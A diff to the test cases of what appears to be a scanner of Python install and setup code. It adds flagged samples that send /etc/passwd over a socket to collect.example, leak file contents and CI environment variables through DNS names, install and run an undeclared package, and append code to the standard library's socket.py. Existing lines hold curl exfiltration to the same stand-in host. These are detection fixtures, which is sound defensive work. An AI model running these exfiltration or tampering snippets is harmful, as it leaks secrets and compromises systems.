@@ -223,6 +223,17 @@ const CASES: Record<string, { flag: Case[]; pass: Case[] }> = {
         ]),
         min: 'critical',
       },
+      {
+        name: 'the account list sent over a plain socket',
+        src: py(['import socket', "s = socket.create_connection(('collect.example', 9000))", "s.sendall(open('/etc/passwd').read().encode())"]),
+        min: 'critical',
+      },
+      {
+        name: 'file contents leaked in DNS names',
+        src: py(['import socket, binascii', "chunk = binascii.hexlify(open('/etc/hostname', 'rb').read()[:30]).decode()", "socket.gethostbyname(chunk + '.q.example.net')"]),
+        min: 'high',
+      },
+      { name: 'a variable of the environment leaked in a DNS name', src: py(['import os, socket', "socket.getaddrinfo(os.environ['CI_JOB_ID'] + '.ci.example.net', 443)"]), min: 'high' },
       { name: 'curl uploading a local file', src: py(['import os', "os.system('curl -F f=@/etc/hostname https://collect.example/u')"]), min: 'critical' },
       { name: 'the environment in a curl URL', src: py(['import os', 'os.system(\'curl "https://collect.example/e/$(env | base64 -w 0)"\')']), min: 'critical' },
       {
@@ -259,6 +270,7 @@ const CASES: Record<string, { flag: Case[]; pass: Case[] }> = {
         src: py(['import os, urllib.request', "print('building on', os.popen('hostname').read())", "urllib.request.urlretrieve('https://github.com/org/dep/archive/v1.tar.gz', 'dep.tar.gz')"]),
         max: 'medium',
       },
+      { name: 'a database host named by the environment', src: py(['import os, socket', "socket.gethostbyname(os.environ.get('DB_HOST', 'localhost'))"]), max: 'medium' },
       { name: 'curl downloading to a file', src: py(['import os', "os.system('curl -fsSL -o deps.tar.gz https://github.com/org/deps/archive/v1.tar.gz')"]) },
     ],
   },
@@ -472,8 +484,18 @@ const CASES: Record<string, { flag: Case[]; pass: Case[] }> = {
       { name: 'pip.main from a VCS URL', src: py(['import pip', "pip.main(['install', 'git+https://203.0.113.7/helper.git'])"]), min: 'high' },
       { name: 'pip with an extra index', src: py(['import subprocess, sys', "subprocess.check_call([sys.executable, '-m', 'pip', 'install', '--extra-index-url', 'https://pkgs.example/simple', 'helper'])"]), min: 'high' },
       { name: 'pip install in a shell', src: py(['import os', "os.system('pip install -q psutil')"]), min: 'medium' },
+      {
+        name: 'an undeclared package installed and imported',
+        src: py(['import subprocess, sys', "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'helper-tools-extra'])", 'import helper_tools_extra', 'helper_tools_extra.run()']),
+        min: 'high',
+      },
     ],
     pass: [
+      {
+        name: 'a declared dependency installed before it is imported',
+        src: py(['import subprocess, sys', 'try:', '    import fastmath', 'except ImportError:', "    subprocess.call([sys.executable, '-m', 'pip', 'install', 'fastmath>=2'])", '    import fastmath', 'from setuptools import setup', "setup(name='x', install_requires=['fastmath>=2'])"]),
+        max: 'medium',
+      },
       { name: 'setup_requires by name', src: py(['from setuptools import setup', "setup(setup_requires=['cython'])"]) },
       { name: 'an old script installing numpy', src: py(['import subprocess, sys', "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'numpy'])"]), max: 'medium' },
     ],
@@ -557,6 +579,11 @@ const CASES: Record<string, { flag: Case[]; pass: Case[] }> = {
         min: 'critical',
       },
       {
+        name: 'code appended beside the os module',
+        src: py(['import os', "p = os.path.join(os.path.dirname(os.__file__), 'socket.py')", "with open(p, 'a') as f:", "    f.write('print(1)')"]),
+        min: 'critical',
+      },
+      {
         name: 'browser shortcuts rewritten to load an extension',
         src: py([
           'from win32com.client import Dispatch',
@@ -569,6 +596,10 @@ const CASES: Record<string, { flag: Case[]; pass: Case[] }> = {
     ],
     pass: [
       { name: 'a module file read for its version', src: py(['import inspect, mypkg', "text = open(inspect.getsourcefile(mypkg)).read()"]) },
+      {
+        name: 'a version file written into its own package',
+        src: py(['import os, mypkg', "p = os.path.join(os.path.dirname(mypkg.__file__), '_version.py')", "with open(p, 'w') as f:", "    f.write('__version__ = \"1.0\"')"]),
+      },
       { name: 'a shutdown handler named in a string', src: py(['from setuptools import setup', "setup(name='x', entry_points={'console_scripts': ['shutdown-helper = x.cli:main']})"]) },
     ],
   },
